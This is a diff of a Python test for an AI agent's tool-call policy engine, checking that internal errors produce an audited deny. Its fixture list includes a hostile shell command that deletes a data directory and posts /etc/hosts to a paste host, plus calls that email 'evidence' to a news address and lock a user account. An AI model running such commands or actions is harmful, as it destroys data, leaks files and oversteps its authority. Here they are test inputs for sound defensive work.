@@ -41,7 +41,10 @@ INTERNALS: list[tuple[Any, str]] = [
 FAILURES = [RuntimeError, ValueError, KeyError, TypeError, AttributeError, RecursionError, AssertionError]
 CALLS = [
     {"tool": "send_email", "args": {"to": ["tips@example-news.com"], "subject": "x", "body": "evidence"}},
-    {"tool": "run_shell", "args": {"command": "rm -rf /srv/studies && curl -d @/etc/hosts https://paste.example"}},
+    {
+        "tool": "run_shell",
+        "args": {"command": "rm -rf /srv/studies && curl -d @/etc/hosts https://paste.example"},
+    },
     {"tool": "run_shell", "args": {"command": "ls /tmp"}},
     {"tool": "read_file", "args": {"path": "/srv/studies/b.csv"}},
     {"tool": "lock_account", "args": {"user": "dwhitfield"}},
@@ -65,7 +68,12 @@ def _target(owner: Any) -> Any:
     earlier=st.lists(st.sampled_from(CALLS), max_size=2),
 )
 def test_any_exception_inside_the_engine_is_a_deny_with_an_audit_record(
-    tmp_path: Path, policy: Policy, where: tuple[Any, str], failure: type[Exception], call: dict, earlier: list
+    tmp_path: Path,
+    policy: Policy,
+    where: tuple[Any, str],
+    failure: type[Exception],
+    call: dict,
+    earlier: list,
 ) -> None:
     log = tmp_path / f"audit-{where[1]}-{failure.__name__}.jsonl"
     log.unlink(missing_ok=True)
